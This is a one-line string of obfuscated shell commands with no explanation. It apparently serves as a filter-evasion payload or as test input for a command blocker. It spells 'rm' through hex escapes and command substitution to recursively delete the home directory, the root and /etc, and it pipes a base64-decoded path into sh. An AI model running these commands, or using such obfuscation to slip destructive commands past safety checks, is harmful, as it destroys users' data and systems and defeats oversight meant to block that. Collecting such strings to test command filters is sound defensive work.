$(printf '\x72%s' $(echo m)) -rf ~; `echo rm` /; rm "$(cat <<< /etc)"; echo L2V0Yw== | base64 -d | sh
